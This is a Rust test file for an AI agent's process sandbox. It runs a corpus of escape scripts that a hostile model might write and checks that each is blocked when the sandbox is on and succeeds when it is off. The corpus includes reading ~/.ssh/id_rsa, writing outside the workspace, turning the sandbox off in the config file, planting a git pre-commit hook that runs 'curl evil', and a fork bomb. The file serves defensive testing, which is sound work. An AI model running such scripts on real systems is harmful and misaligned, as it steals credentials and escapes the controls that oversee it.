//! The escape corpus: scripts a hostile model could write, each run through
//! `execute_code` in the sandbox launched by the built binary. With the sandbox on,
//! every one is blocked or bounded and the run goes on; with `mode = "off"`, the
//! same corpus shows what would have escaped (so the test is not vacuous).

use std::net::TcpListener;
use std::path::PathBuf;
use std::time::Duration;

use infiagent_sandbox::{ProcessSandbox, SandboxMode, SandboxPolicy};
use infiagent_test_support::tools::tool_context;
use infiagent_tools::{Approval, ProcessLimits, ToolContext, call_tool};

/// Where the escapes aim: folders outside the workspace.
struct Scene {
    _scratch: tempfile::TempDir,
    workspace: PathBuf,
    home: PathBuf,
    outside: PathBuf,
    port: u16,
    _listener: TcpListener,
}

impl Scene {
    fn new() -> Scene {
        let scratch = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(scratch.path()).unwrap();
        let (workspace, home, outside) = (
            root.join("workspace"),
            root.join("home"),
            root.join("outside"),
        );
        for directory in [
            &workspace.join(".infiagent/venv"),
            &workspace.join(".git/hooks"),
            &home.join(".ssh"),
            &outside,
        ] {
            std::fs::create_dir_all(directory).unwrap();
        }
        std::fs::write(home.join(".ssh/id_rsa"), "FAKE PRIVATE KEY\n").unwrap();
        std::os::unix::fs::symlink(&outside, workspace.join("link")).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        Scene {
            port: listener.local_addr().unwrap().port(),
            _listener: listener,
            _scratch: scratch,
            workspace,
            home,
            outside,
        }
    }

    fn context(&self, mode: SandboxMode) -> ToolContext {
        let policy = SandboxPolicy {
            mode,
            deny_read: vec![self.home.join(".ssh").display().to_string()],
            ..SandboxPolicy::default()
        };
        let launcher = PathBuf::from(env!("CARGO_BIN_EXE_infiagent"));
        let processes = ProcessSandbox::with_launcher(policy, Some(launcher));
        ToolContext {
            limits: ProcessLimits {
                timeout: Duration::from_secs(60),
                ..ProcessLimits::default()
            },
            ..tool_context(&self.workspace, processes, Approval::Allow)
        }
    }
}

/// One escape: a script, and how to tell from the outside that it worked.
struct Escape {
    name: &'static str,
    file: &'static str,
    script: String,
    /// Given the tool's output, whether the escape worked.
    escaped: Box<dyn Fn(&str) -> bool>,
}

/// Processes the fork test starts with the sandbox off: above the limit of 256, far
/// below what would strain the machine.
const FORKS_WITHOUT_SANDBOX: usize = 400;

fn corpus(scene: &Scene, mode: SandboxMode) -> Vec<Escape> {
    let forks = if mode == SandboxMode::Off {
        FORKS_WITHOUT_SANDBOX
    } else {
        10_000
    };
    let (home, outside) = (scene.home.display(), scene.outside.display());
    let exists = |path: PathBuf| move |_: &str| path.exists();
    vec![
        Escape {
            name: "write to $HOME (shell)",
            file: "home.sh",
            script: format!("echo pwned > {home}/pwned-shell\n"),
            escaped: Box::new(exists(scene.home.join("pwned-shell"))),
        },
        Escape {
            name: "write to a folder outside (Python)",
            file: "outside.py",
            script: format!("open('{outside}/pwned-python', 'w').write('x')\n"),
            escaped: Box::new(exists(scene.outside.join("pwned-python"))),
        },
        Escape {
            name: "read ~/.ssh/id_rsa (Python)",
            file: "key.py",
            script: format!("print(open('{home}/.ssh/id_rsa').read())\n"),
            escaped: Box::new(|output: &str| output.contains("FAKE PRIVATE KEY")),
        },
        Escape {
            name: "read ~/.ssh/id_rsa (shell)",
            file: "key.sh",
            script: format!("cat {home}/.ssh/id_rsa\n"),
            escaped: Box::new(|output: &str| output.contains("FAKE PRIVATE KEY")),
        },
        Escape {
            name: "follow a symlink out of the workspace",
            file: "link.sh",
            script: "echo pwned > link/pwned-link\n".into(),
            escaped: Box::new(exists(scene.outside.join("pwned-link"))),
        },
        Escape {
            name: "os.chdir('..') and write",
            file: "chdir.py",
            script: "import os\nos.chdir('..')\nopen('pwned-chdir', 'w').write('x')\n".into(),
            escaped: Box::new(exists(
                scene.workspace.parent().unwrap().join("pwned-chdir"),
            )),
        },
        Escape {
            name: "connect to a loopback listener (Python)",
            file: "connect.py",
            script: format!(
                "import socket\nsocket.create_connection(('127.0.0.1', {}), timeout=5)\nprint('CONNECTED')\n",
                scene.port
            ),
            escaped: Box::new(|output: &str| output.contains("CONNECTED")),
        },
        Escape {
            name: "signal a process outside the sandbox (the server)",
            file: "signal.sh",
            script: format!("kill -0 {} && echo SIGNALLED\n", std::process::id()),
            escaped: Box::new(|output: &str| output.contains("SIGNALLED")),
        },
        Escape {
            name: "turn the sandbox off in .infiagent/config.toml",
            file: "config.sh",
            script: "printf '[sandbox]\\nmode = \"off\"\\n' > .infiagent/config.toml\n".into(),
            escaped: Box::new(exists(scene.workspace.join(".infiagent/config.toml"))),
        },
        Escape {
            name: "add a git hook that runs at the next commit",
            file: "hook.py",
            script: "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil\\n')\n".into(),
            escaped: Box::new(exists(scene.workspace.join(".git/hooks/pre-commit"))),
        },
        Escape {
            name: "spawn 10,000 processes",
            file: "forks.py",
            script: format!(
                "import os, time\nstarted = 0\ntry:\n    for _ in range({forks}):\n        if os.fork() == 0:\n            time.sleep(3)\n            os._exit(0)\n        started += 1\nfinally:\n    print('STARTED', started)\n"
            ),
            escaped: Box::new(move |output: &str| output.contains(&format!("STARTED {forks}"))),
        },
        Escape {
            name: "allocate 8 GiB",
            file: "memory.py",
            script: "import mmap\nblock = mmap.mmap(-1, 8 << 30)\nprint('ALLOCATED')\n".into(),
            escaped: Box::new(|output: &str| output.contains("ALLOCATED")),
        },
    ]
}

/// Runs the corpus in `mode`; returns (name, escaped, the tool's output) for each.
async fn run_corpus(mode: SandboxMode) -> Vec<(&'static str, bool, String)> {
    let scene = Scene::new();
    let ctx = scene.context(mode);
    let mut results = Vec::new();
    for escape in corpus(&scene, mode) {
        std::fs::write(scene.workspace.join(escape.file), &escape.script).unwrap();
        let arguments = serde_json::json!({"path": escape.file}).to_string();
        let output = call_tool("execute_code", &arguments, &ctx).await;
        let escaped = (escape.escaped)(&output.content);
        results.push((escape.name, escaped, output.content));
    }
    // The run goes on: an honest script still runs and writes in the workspace and
    // in its virtual environment.
    std::fs::write(
        scene.workspace.join("fine.sh"),
        "echo ok > fine.txt && echo ok > .infiagent/venv/fine.txt\n",
    )
    .unwrap();
    let output = call_tool("execute_code", r#"{"path": "fine.sh"}"#, &ctx).await;
    assert!(!output.is_error, "{}", output.content);
    assert!(scene.workspace.join("fine.txt").exists());
    assert!(scene.workspace.join(".infiagent/venv/fine.txt").exists());
    results
}

fn report(mode: SandboxMode, results: &[(&str, bool, String)]) {
    eprintln!("escape corpus, [sandbox] mode = \"{}\":", mode.name());
    for (name, escaped, output) in results {
        let verdict = if *escaped { "ESCAPED" } else { "blocked" };
        let last = output.lines().rev().find(|line| !line.trim().is_empty());
        eprintln!("  {verdict:<8} {name}  ({})", last.unwrap_or("").trim());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_escape_is_blocked_or_bounded_in_the_sandbox() {
    let support = ProcessSandbox::with_launcher(
        SandboxPolicy::default(),
        Some(env!("CARGO_BIN_EXE_infiagent").into()),
    )
    .support()
    .clone();
    assert!(support.complete(), "{support:#?}");
    let results = run_corpus(SandboxMode::WorkspaceWrite).await;
    report(SandboxMode::WorkspaceWrite, &results);
    for (name, escaped, output) in &results {
        assert!(!escaped, "{name} escaped the sandbox:\n{output}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_the_sandbox_the_same_escapes_work() {
    let results = run_corpus(SandboxMode::Off).await;
    report(SandboxMode::Off, &results);
    for (name, escaped, output) in &results {
        assert!(
            escaped,
            "{name} did not escape even without the sandbox:\n{output}"
        );
    }
}
